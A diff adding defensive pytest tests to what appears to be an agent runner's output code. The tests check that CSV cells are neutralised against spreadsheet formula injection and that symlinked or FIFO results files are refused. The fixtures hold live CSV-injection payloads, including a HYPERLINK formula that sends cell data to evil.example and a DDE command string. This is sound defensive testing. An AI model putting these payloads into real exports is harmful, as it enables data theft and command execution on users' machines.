@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import os
 import threading
 from collections.abc import Callable, Mapping
 from pathlib import Path
@@ -297,3 +298,58 @@ def test_the_iterative_research_agent_researches_each_item(
     assert [row.id for row in result.rows] == ["alpha", "beta"]
     assert all(row.data["report_chars"] > 100 for row in result.rows)
     assert {row.data["exit"] for row in result.rows} <= {"analysis_stopped", "depth_reached"}
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
+    hostile = {
+        "item-00": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+        "item-01": "+1+cmd|' /C calc'!A0",
+        "item-02": "-2+3",
+        "item-03": "@SUM(A1:A9)",
+        "item-04": "\tTab-led",
+        "item-05": "Résumé: tides rose 4.2 m",
+    }
+    result = _runner(
+        lambda: lambda prompt: {"summary": hostile[prompt]}, tmp_path / "rows.jsonl", provider=list(hostile)
+    ).run()
+
+    written = list(csv.reader(result.write_csv(tmp_path / "rows.csv").open(encoding="utf-8")))
+
+    assert written[0] == ["id", "summary"]
+    assert dict(written[1:]) == {
+        "item-00": "'" + hostile["item-00"],
+        "item-01": "'" + hostile["item-01"],
+        "item-02": "'-2+3",
+        "item-03": "'@SUM(A1:A9)",
+        "item-04": "'\tTab-led",
+        "item-05": "Résumé: tides rose 4.2 m",
+    }
+
+
+@pytest.mark.parametrize("hostile", ["link", "fifo"])
+def test_a_results_file_that_is_a_link_or_a_fifo_is_refused_and_left_as_it_was(hostile: str, tmp_path: Path) -> None:
+    results = tmp_path / "rows.jsonl"
+    target = tmp_path / "passwd"
+    target.write_bytes(b"root:x:0:0:root:/root:/bin/sh\nunterminated")
+    if hostile == "link":
+        results.symlink_to(target)
+    else:
+        os.mkfifo(results)  # a plain read blocks forever
+    outcome: list[BaseException] = []
+
+    def scan() -> None:
+        try:
+            _runner(Recorder().factory, results, provider=ITEMS[:1]).run()
+        except BaseException as error:  # handed to the test thread
+            outcome.append(error)
+
+    scanning = threading.Thread(target=scan, daemon=True)
+    scanning.start()
+    scanning.join(timeout=60)
+
+    assert not scanning.is_alive()
+    [error] = outcome
+    assert isinstance(error, ConfigurationError)
+    assert str(results) in str(error)
+    assert target.read_bytes() == b"root:x:0:0:root:/root:/bin/sh\nunterminated"
+    assert results.is_symlink() if hostile == "link" else results.is_fifo()
